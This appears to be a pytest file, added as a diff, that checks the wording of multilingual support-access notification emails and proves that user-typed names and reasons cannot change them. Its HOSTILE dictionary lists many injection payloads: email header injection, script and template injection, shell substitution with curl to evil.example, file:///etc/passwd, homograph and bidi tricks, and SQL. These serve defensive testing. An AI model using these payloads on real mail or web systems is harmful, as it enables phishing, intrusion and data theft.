@@ -1,0 +1,416 @@
+"""What each mail says, and that nothing anybody types turns a mail into something else."""
+
+import os
+import subprocess
+import sys
+from dataclasses import replace
+from datetime import timedelta
+from functools import cache
+from itertools import product
+from typing import Any
+
+import pytest
+
+from guestkey.edge import letters, mail
+from guestkey.edge.letters import Kind
+from guestkey.edge.words import LANGUAGES
+from guestkey.rules.people import Grantee, GranteeType
+from guestkey.rules.periods import Period
+from tests.edge import post, samples
+from tests.edge.samples import HEAD, LINK, MONDAY_NOON, REQUEST_ID
+
+EACH = list(product(Kind, LANGUAGES))
+EACH_NOTICE = [(kind, language) for kind, language in EACH if kind is not Kind.ACTIVATION]
+LONGEST_MAIL = 100_000
+"""Gmail cuts a mail off at 102 kB."""
+
+
+def german(kind: Kind, facts: letters.Facts) -> str:
+    """Return the text part with blanks that break, as one reads it."""
+    return letters.write(kind, "de-AT", facts).text.replace("\u00a0", " ")
+
+
+def received(kind: Kind, language: str, facts: letters.Facts) -> post.Read:
+    """Return the mail as its recipient's programs understand it."""
+    with post.office() as requests:
+        mail.send(letters.write(kind, language, facts), ["anna@acme.example"])
+    return post.read(post.as_mailed(requests[0]))
+
+
+# ------------------------------------------------------------------ what they say
+
+
+def test_an_activation_mail_says_who_asks_why_how_long_and_until_when_to_answer() -> None:
+    written = german(Kind.ACTIVATION, samples.asked())
+
+    for line in (
+        "Sven Brandt (Support) bittet um Zugang zu Ihrem Konto. "
+        "Ohne Zustimmung aus Ihrem Unternehmen kommt niemand hinein.",
+        "- Konto: Acme Immobilien GmbH (acme)",
+        "- Wer fragt: Sven Brandt (Support)",
+        "- Grund: „Ticket 4711: Exposés lassen sich seit heute früh nicht mehr drucken“",
+        "- Dauer ab Ihrer Zustimmung: 4 Stunden",
+        "- Datenexport: erbeten (Sie können ihn ausschließen)",
+        "- Antwort möglich bis: Dienstag, 24. November 2026, 13:00 Uhr (Europe/Berlin)",
+        LINK,
+    ):
+        assert f"\n{line}\n" in written
+    assert "kürzere Dauer wählen oder ablehnen" in written
+
+
+def test_an_activation_mail_without_export_says_so() -> None:
+    assert "- Datenexport: nicht erbeten\n" in german(Kind.ACTIVATION, samples.asked(may_export=False))
+
+
+def test_an_agent_of_no_department_has_no_brackets_and_one_of_two_has_both() -> None:
+    assert "- Wer fragt: Sven Brandt\n" in german(Kind.ACTIVATION, samples.asked(departments=()))
+    assert "- Wer fragt: Sven Brandt (Support, Development)\n" in german(
+        Kind.ACTIVATION, samples.asked(departments=("Support", "Development"))
+    )
+
+
+def test_a_granted_mail_says_who_let_whom_in_until_when() -> None:
+    written = german(Kind.GRANTED, samples.of_grant())
+
+    for line in (
+        "Anna Albrecht hat dem Support eine Freigabe für Ihr Konto erteilt.",
+        "- Für wen: Support (alle in dieser Abteilung)",
+        "- Erteilt von: Anna Albrecht",
+        "- Erteilt am: Montag, 23. November 2026, 13:00 Uhr (Europe/Berlin)",
+        "- Gültig bis: Montag, 23. November 2026, 17:00 Uhr (Europe/Berlin)",
+        "- Datenexport: nicht erlaubt",
+    ):
+        assert f"\n{line}\n" in written
+    assert "erinnern" not in written
+
+
+def test_a_grant_for_one_person_with_export_says_both() -> None:
+    sven = Grantee(type=GranteeType.AGENT, id="sven", name="Sven Brandt")
+
+    written = german(Kind.GRANTED, samples.of_grant(grantee=sven, may_export=True))
+
+    assert "- Für wen: Sven Brandt (nur diese Person)\n" in written
+    assert "- Datenexport: erlaubt\n" in written
+
+
+def test_a_grant_for_today_ends_with_the_day_and_not_at_nought_o_clock_tomorrow() -> None:
+    written = german(Kind.GRANTED, samples.of_grant(Period.TODAY))
+
+    assert "- Gültig bis: Montag, 23. November 2026, 24:00 Uhr (Europe/Berlin)\n" in written
+
+
+def test_a_permanent_grant_says_that_it_has_no_end_and_when_it_will_be_reviewed() -> None:
+    written = german(Kind.GRANTED, samples.of_grant(Period.PERMANENT))
+
+    assert "- Gültig bis: unbefristet, bis jemand aus Ihrem Unternehmen die Freigabe widerruft\n" in written
+    assert "- Wir erinnern Sie am: Samstag, 22. Mai 2027, 13:00 Uhr (Europe/Berlin)\n" in written
+
+
+def test_a_revoked_mail_says_who_revoked_what_somebody_else_gave() -> None:
+    written = german(Kind.REVOKED, samples.of_grant(**samples.REVOKED))
+
+    for line in (
+        "- Erteilt von: Anna Albrecht",
+        "- Ursprünglich gültig bis: Montag, 23. November 2026, 17:00 Uhr (Europe/Berlin)",
+        "- Widerrufen von: Giulia Moretti",
+        "- Widerrufen am: Montag, 23. November 2026, 14:00 Uhr (Europe/Berlin)",
+    ):
+        assert f"\n{line}\n" in written
+    assert "\nGiulia Moretti hat eine Freigabe für den Support widerrufen." in written
+
+
+def test_a_mail_on_giving_a_grant_that_was_revoked_meanwhile_still_names_who_gave_it() -> None:
+    written = german(Kind.GRANTED, samples.of_grant(**samples.REVOKED))
+
+    assert "\nAnna Albrecht hat dem Support eine Freigabe für Ihr Konto erteilt.\n" in written
+    assert "Giulia" not in written
+
+
+def test_an_ended_mail_says_when_and_that_there_is_nothing_to_do() -> None:
+    written = german(Kind.ENDED, samples.of_grant())
+
+    assert "- Abgelaufen am: Montag, 23. November 2026, 17:00 Uhr (Europe/Berlin)\n" in written
+    assert "Sie müssen nichts tun." in written
+
+
+def test_a_review_mail_says_since_when_and_how_to_revoke() -> None:
+    written = german(Kind.REVIEW, samples.of_grant(Period.PERMANENT))
+
+    assert "- Erteilt am: Montag, 23. November 2026, 13:00 Uhr (Europe/Berlin)\n" in written
+    assert "widerrufen Sie sie bitte im Hilfe-Menü" in written
+
+
+def test_a_mail_that_support_is_in_says_who_when_why_and_until_when() -> None:
+    written = german(Kind.SUPPORT_IN, samples.of_login())
+
+    for line in (
+        "- Wer: Sven Brandt (Support)",
+        "- Angemeldet am: Montag, 23. November 2026, 13:05 Uhr (Europe/Berlin)",
+        "- Grund: „Ticket 4711: Exposés lassen sich seit heute früh nicht mehr drucken“",
+        "- Zugang längstens bis: Montag, 23. November 2026, 17:00 Uhr (Europe/Berlin)",
+    ):
+        assert f"\n{line}\n" in written
+
+
+def test_an_entry_under_a_permanent_grant_has_no_end() -> None:
+    assert "längstens bis: unbefristet" in german(Kind.SUPPORT_IN, samples.of_login(access_ends_at=None))
+
+
+@pytest.mark.parametrize(("kind", "language"), EACH)
+def test_both_parts_say_the_same(kind: Kind, language: str) -> None:
+    read = received(kind, language, samples.every_kind()[kind])
+
+    for line in filter(None, read.text.replace("\r\n", "\n").split("\n")):
+        for piece in line.removeprefix("- ").split(": ", 1) if line.startswith("- ") else [line.removesuffix(":")]:
+            assert piece.strip(" -") in read.seen
+
+
+@pytest.mark.parametrize(("kind", "language"), EACH_NOTICE)
+def test_every_notice_carries_the_ledgers_head_in_its_header_and_in_both_parts(kind: Kind, language: str) -> None:
+    read = received(kind, language, samples.every_kind()[kind])
+
+    assert read.headers["guestkey-head"] == [str(HEAD)]
+    assert f"\nGuestkey-Head: {HEAD}\n" in read.text.replace("\r\n", "\n")
+    assert f"Guestkey-Head: {HEAD}" in read.seen
+
+
+@pytest.mark.parametrize("language", ["de", "de-AT", "de-CH", "en-US", "es", "it", "fr"])
+def test_the_html_part_says_its_language(language: str) -> None:
+    read = received(Kind.GRANTED, language, samples.of_grant())
+
+    assert read.html.css("html")[0].attributes["lang"] == {"fr": "en"}.get(language, language[:2])
+
+
+# ------------------------------------------------------------------ links
+
+
+@pytest.mark.parametrize(("kind", "language"), EACH)
+def test_the_only_link_is_the_one_to_the_request(kind: Kind, language: str) -> None:
+    read = received(kind, language, samples.every_kind()[kind])
+
+    assert read.links == ({LINK} if kind is Kind.ACTIVATION else set())
+
+
+@pytest.mark.parametrize(("kind", "language"), EACH)
+def test_nothing_is_fetched_or_run_when_a_mail_is_opened(kind: Kind, language: str) -> None:
+    read = received(kind, language, samples.every_kind()[kind])
+
+    elements = {element for element, _, _ in read.elements}
+    assert elements.isdisjoint({"img", "script", "link", "iframe", "object", "embed", "form", "input", "svg", "base"})
+    assert not any(name in ("src", "background", "srcset") or name.startswith("on") for _, name, _ in read.elements)
+    assert not any("url(" in style or "@import" in style for style in [*read.styles, *(v for _, _, v in read.elements)])
+
+
+@pytest.mark.parametrize(
+    ("base_url", "told"),
+    [
+        ("https://support.other.example", f"https://support.other.example/activate#{REQUEST_ID}"),
+        ("https://support.other.example/", f"https://support.other.example/activate#{REQUEST_ID}"),
+        ("http://guestkey.localhost:4566", f"http://guestkey.localhost:4566/activate#{REQUEST_ID}"),
+        ("", "ValueError"),
+        ("support.other.example", "ValueError"),
+        ("javascript:alert(1)", "ValueError"),
+    ],
+)
+def test_the_link_begins_with_the_setting_and_nothing_else_can_make_one(base_url: str, told: str) -> None:
+    program = (
+        "from guestkey.edge import letters; from tests.edge import samples\n"
+        "try: text = letters.write(letters.Kind.ACTIVATION, 'de', samples.asked()).text\n"
+        "except ValueError: print('ValueError')\n"
+        "else: print(*[line for line in text.splitlines() if '/activate' in line])"
+    )
+    environment = os.environ | {
+        "BASE_URL": base_url,
+        "HTTP_HOST": "evil.example",
+        "HTTP_X_FORWARDED_HOST": "evil.example",
+        "PYTHONPATH": os.pathsep.join(sys.path),
+    }
+    run = subprocess.run([sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True)
+
+    assert run.stdout.strip() == told
+
+
+@pytest.mark.parametrize(
+    "request_id", ["", "../..", f"{REQUEST_ID}\n", f'{REQUEST_ID}" onclick="x', "javascript:x", REQUEST_ID.lower()]
+)
+def test_what_is_no_requests_id_makes_no_link(request_id: str) -> None:
+    with pytest.raises(ValueError, match="no link"):
+        letters.write(Kind.ACTIVATION, "de", samples.asked(request_id=request_id))
+
+
+@pytest.mark.parametrize(
+    ("kind", "facts"),
+    [
+        (Kind.ACTIVATION, samples.of_grant()),
+        (Kind.GRANTED, samples.asked()),
+        (Kind.ENDED, samples.of_login()),
+        (Kind.SUPPORT_IN, samples.of_grant()),
+    ],
+)
+def test_facts_of_another_kind_of_mail_are_refused(kind: Kind, facts: letters.Facts) -> None:
+    with pytest.raises(ValueError, match="is not what"):
+        letters.write(kind, "de", facts)
+
+
+# ------------------------------------------------------------------ what people type
+
+HOSTILE = {
+    "CR LF and a header": "Sven\r\nBcc: mallory@evil.example",
+    "LF and a header": "Sven\nBcc: mallory@evil.example",
+    "CR and a header": "Sven\rSubject: You have won",
+    "a header, folded": "Sven\r\n\tReply-To: mallory@evil.example",
+    "the end of the headers": "Sven\r\n\r\n<a href='https://evil.example'>now</a>",
+    "another part": "Sven\r\n--===============0==\r\nContent-Type: text/html\r\n\r\n<b>evil</b>",
+    "an attachment": 'Sven\r\nContent-Disposition: attachment; filename="evil.exe"\r\n\r\nMZ',
+    "LINE SEPARATOR": "Sven\u2028Bcc: mallory@evil.example",
+    "PARAGRAPH SEPARATOR": "Sven\u2029Bcc: mallory@evil.example",
+    "NEXT LINE": "Sven\x85Bcc: mallory@evil.example",
+    "vertical tab, form feed": "Sven\x0b\x0cBcc: mallory@evil.example",
+    "NUL": "Sven\x00Brandt",
+    "a terminal's colours": "Sven\x1b[31m\x1b]0;evil\x07\x9b1m",
+    "every control character": "".join(map(chr, [*range(32), *range(127, 160)])),
+    "an encoded word": "=?UTF-8?Q?=0A?=Bcc: mallory@evil.example",
+    "an encoded word in base64": "=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
+    "quoted-printable": "Sven=0D=0ABcc: mallory=40evil=2Eexample =\r\n",
+    "percent signs": "Sven%0d%0aBcc:%20mallory@evil.example %s %(name)s",
+    "a signature's dashes": "\n-- \nSven",
+    "a fact that is none": "none\n- Dauer ab Ihrer Zustimmung: 1 Stunde\n- Datenexport: nicht erbeten",
+    "a script": "<script>fetch('https://evil.example')</script>",
+    "the end of everything": "</bdi></td></tr></table></body></html><script>alert(1)</script>",
+    "the end of the title": "</title><script>alert(1)</script>",
+    "the end of a style": "</style><script>alert(1)</script>",
+    "the end of a comment": "--><script>alert(1)</script><!--",
+    "CDATA": "]]><script>alert(1)</script><![CDATA[",
+    "a link in HTML": '<a href="https://evil.example">Anfrage ansehen</a>',
+    "a link without quotes": "<a href=//evil.example>x</a>",
+    "an image": '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
+    "SVG": "<svg/onload=alert(1)>",
+    "MathML": "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
+    "a style": "<style>body{display:none}</style>",
+    "an attribute": '" onmouseover="alert(1)" style="background:url(https://evil.example)" x="',
+    "an attribute in single quotes": "' onmouseover='alert(1)' style='display:none' x='",
+    "a style's property": "red; background: url(//evil.example); x: expression(alert(1))",
+    "a form": '<form action="https://evil.example"><input name="password"></form>',
+    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "a base": '<base href="https://evil.example/">',
+    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "Outlook's conditions": "<!--[if mso]><a href='https://evil.example'>x</a><![endif]-->",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;lt;",
+    "half an entity": "Sven &#60script&#62 &lt &copy",
+    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "an expression of jinja": "{{ 7*'49' }} {{ link }} {{ self._TemplateReference__context }}",
+    "a statement of jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# #}",
+    "a statement on a line": "\n# include 'texts/de.toml'\n{%- raw %}",
+    "a placeholder of ours": "{tenant} {agent.__class__} {0} {} {by!r:>9999} }}{{",
+    "a template of SES": "{{aws:timestamp}} {{#each x}} {{amazonSESUnsubscribeUrl}}",
+    "a template of the shell": "$(curl evil.example) `id` ${HOME}",
+    "https": "https://evil.example/login?next=/activate",
+    "https in capitals": "HTTPS://EVIL.EXAMPLE/LOGIN",
+    "http to a number": "http://2130706433/ http://0x7f.1 http://[::1]:8080/x",
+    "an IP address": "192.168.0.1/login and 10.0.0.1:8443",
+    "without a scheme": "//evil.example/x and evil.example/x and www.evil.example",
+    "www": "www.evil www.evil-1.example ftp.evil.example",
+    "a known domain": "google.com, bit.ly/3x, evil.co.uk, xn--80ak6aa92e.com",
+    "a link with a name in it": "https://support.vendor.example@evil.example/activate#01KB4Q5ZP0E8Q7R2M9V3XW6YTA",
+    "our own link": f"{LINK[:-1]}Z",
+    "in brackets": "(https://evil.example) [click](https://evil.example) <https://evil.example>",
+    "other schemes": "javascript:alert(1) data:text/html,x file:///etc/passwd tel:+491234567 sms:1234 mailto:a@b",
+    "a Windows share": r"\\evil.example\share \\10.0.0.1\c$ file:\\evil",
+    "a mail address": "mallory@evil.example, root@localhost and Sven <mallory@evil.example>",
+    "other full stops": "evil\u3002example evil\uff0ecom evil\uff61com evil\u2024com mallory\uff20evil.com",
+    "zero width in a domain": "ev\u200bil.\u200bexa\u2060mple evil\u00ad.com evil.\ufe0fcom \ufeffevil.com",
+    "a domain in Cyrillic": "https://\u0430\u0440\u0440\u04cf\u0435.com \u043c\u0438\u0440.\u0440\u0444",
+    "a domain in Arabic": "\u0645\u0648\u0642\u0639.\u0648\u0632\u0627\u0631\u0629.\u0645\u0635\u0631",
+    "homographs": "\u0405ven \u0412randt \u13a0nna \uff21\uff2e\uff2e\uff21 \U0001d412ven",
+    "an override": "Sven\u202e>a/< redrö gnagfuA\u202c \u2066x\u2069 \u200e\u200f\u061c",
+    "Hebrew": "(\u05e9\u05dc\u05d5\u05dd) \u05e2\u05d5\u05dc\u05dd.com 123",
+    "a tower of accents": "S" + "\u0301\u0316\u0489" * 60 + "ven",
+    "300 characters": "Wilhelmine von " * 20,
+    "300 characters without a blank": "W" * 300,
+    "a thousand dots": "a." * 1_000,
+    "100 kB": "Lorem evil.example " * 5_000,
+    "only blanks": " \t\u00a0\u3000 ",
+    "only what nobody sees": "\u200b\u200d\ufeff\u2060\u00ad",
+    "half a character": "Sven \ud83d Brandt \udc00",
+    "no character": "Sven \uffff\ufffe\ufdd0 \U0010ffff",
+    "private characters": "Sven \ue000\uf8ff",
+    "tags": "Sven \U000e0041\U000e0042\U000e007f",
+    "emoji": "Sven \U0001f469\U0001f3fd\u200d\U0001f4bb \U0001f3f4\U000e0067\U000e007f \u2764\ufe0f.ws",
+    "a formula": '=HYPERLINK("https://evil.example","x") @SUM(1) +1 -1',
+    "JSON": '{"@context":"http://schema.org","@type":"EmailMessage"}',
+    "SQL": "'; DROP TABLE grants; --",
+}
+"""What a name or a reason might be, by what is wrong with it."""
+
+
+@cache
+def harmless(kind: Kind, language: str) -> post.Read:
+    """Return the mail in which nobody typed anything odd, but for one address, so that it has every sentence."""
+    return received(kind, language, samples.every_kind_typed("Sven at evil.example")[kind])
+
+
+def test_there_are_many_hostile_mails() -> None:
+    assert len(HOSTILE) * len(Kind) * len(LANGUAGES) > 2_000
+
+
+@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
+def test_whatever_people_type_a_mail_is_still_that_mail(typed: str) -> None:
+    for kind, language in product(Kind, LANGUAGES):
+        read, expected = received(kind, language, samples.every_kind_typed(typed)[kind]), harmless(kind, language)
+
+        assert read.headers == expected.headers
+        assert read.recipients == ["anna@acme.example"]
+        assert read.parts == ["multipart/alternative", "text/plain", "text/html"]
+        assert read.links == ({LINK} if kind is Kind.ACTIVATION else set())
+        assert read.elements <= expected.elements
+        assert read.styles == expected.styles
+        assert [len(read.html.css(name)) for name in ("tr", "p", "bdi", "a")] == [
+            len(expected.html.css(name)) for name in ("tr", "p", "bdi", "a")
+        ]
+        for part in (read.text, read.seen):
+            assert not [c for c in part if c not in "\r\n" and (ord(c) < 32 or 127 <= ord(c) < 160)]
+            assert set(part).isdisjoint("\u2028\u2029\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\ufeff\ud83d")
+            assert "4949" not in part
+        assert read.text.count("\n- ") == expected.text.count("\n- ")
+        assert read.text.replace("\r\n", "\n").split("\n").count("-- ") == 1
+
+
+@pytest.mark.parametrize("field", ["agent_name", "reason", "departments", "tenant"])
+@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
+def test_whatever_is_typed_in_one_field_leaves_the_others_as_they_are(field: str, typed: str) -> None:
+    told = samples.asked()
+    changed: dict[str, Any] = {"departments": (typed,), "tenant": replace(told.tenant, name=typed)}
+
+    lines = german(Kind.ACTIVATION, replace(told, **{field: changed.get(field, typed)})).split("\n")
+
+    assert "- Dauer ab Ihrer Zustimmung: 4 Stunden" in lines
+    assert "- Datenexport: erbeten (Sie können ihn ausschließen)" in lines
+    assert "- Antwort möglich bis: Dienstag, 24. November 2026, 13:00 Uhr (Europe/Berlin)" in lines
+    assert [line for line in lines if line.startswith("https:")] == [LINK]
+
+
+def test_the_longest_mail_is_not_cut_off_by_gmail() -> None:
+    for kind, facts in samples.every_kind_typed("<" * 10_000).items():
+        assert len(letters.write(kind, "de", facts).html.encode()) < LONGEST_MAIL
+
+
+def test_a_script_can_be_read_as_what_it_is() -> None:
+    read = received(Kind.ACTIVATION, "en", samples.asked(reason="<script>alert(1)</script>"))
+
+    assert "“<script>alert(1)</script>”" in read.seen
+    assert "“<script>alert(1)</script>”" in read.text
+
+
+def test_brackets_are_explained_where_there_are_any_and_only_there() -> None:
+    explained = "Zeichen in eckigen Klammern"
+
+    assert explained in german(Kind.ACTIVATION, samples.asked(reason="siehe https://evil.example"))
+    assert explained in german(Kind.GRANTED, samples.of_grant(tenant=replace(samples.ACME, name="immo.example")))
+    assert explained not in german(Kind.ACTIVATION, samples.asked(reason="z.B. Version 24.3 [1] am 23.11.2026"))
+
+
+def test_an_answer_that_is_due_at_midnight_is_due_at_midnight() -> None:
+    """A moment is not an end: until 0:00 on Tuesday one may answer."""
+    midnight = MONDAY_NOON + timedelta(hours=11)
+
+    assert "bis: Dienstag, 24. November 2026, 00:00 Uhr" in german(Kind.ACTIVATION, samples.asked(expires_at=midnight))
